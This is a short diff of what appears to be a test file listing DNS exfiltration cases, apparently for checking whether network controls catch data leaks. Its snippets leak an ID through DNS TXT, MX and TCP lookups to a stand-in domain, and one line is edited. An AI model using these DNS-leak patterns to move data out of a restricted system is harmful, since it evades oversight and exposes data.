@@ -59,7 +59,7 @@ for turn in range(2):
     ),
     exfiltration(
       "data under a name that is allowed alone",
-      `dns("leak-" + ID + "." + HOST, "TXT"); dns("leak-" + ID + "." + NAME, "MX")`,
+      `dns("leak-" + ID + "." + NAME, "TXT"); dns("leak-" + ID + "." + NAME, "MX")`,
     ),
     exfiltration("data in a question over TCP", `dns("leak-" + ID + ".zone.example", over="tcp", limit=2)`),
     exfiltration(
